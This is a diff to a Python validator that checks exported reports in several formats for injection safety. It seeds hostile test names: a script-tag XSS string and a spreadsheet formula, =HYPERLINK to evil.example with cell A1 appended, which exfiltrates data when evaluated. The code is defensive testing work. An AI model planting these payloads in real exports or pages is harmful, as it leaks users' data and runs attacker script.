@@ -11,7 +11,7 @@ Exits 1 with one line per problem found, 0 when the file is safe.
   json   valid JSON, hostile names round-trip exactly
   junit  well-formed XML, no injected elements
   md     no raw HTML from names, table rows keep their column count
-  text   no terminal control characters from names
+  text   no terminal control characters from names (also md and html)
 """
 import csv
 import html.parser
@@ -28,7 +28,8 @@ problems = []
 PROVIDER_NAME = "<script>alert('provider')</script> & Sons \"Hospice\""
 FORMULA_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
 
-if b"\x1b" in data or b"\x07" in data:
+# formats read in a terminal or a browser carry no raw control characters
+if fmt in ("text", "md", "html") and (b"\x1b" in data or b"\x07" in data):
     problems.append("raw terminal control character (ESC or BEL) in the output")
 
 if fmt == "html":
@@ -55,9 +56,8 @@ if fmt == "html":
                 problems.append("injected script content: %r" % d[:80])
 
     P().feed(text)
-    if "alert('provider')" not in text and "alert(&#x27;provider&#x27;)" not in text \
-            and "alert(&#39;provider&#39;)" not in text:
-        problems.append("the provider name does not appear at all (escaped or not)")
+    if not re.search(r"alert\((?:'|&#x0*27;|&#0*39;|&apos;)(provider|agreement)", text):
+        problems.append("no hostile provider name appears at all (escaped or not)")
 elif fmt == "csv":
     rows = list(csv.reader(text.splitlines(True)))
     seen_formula_name = False
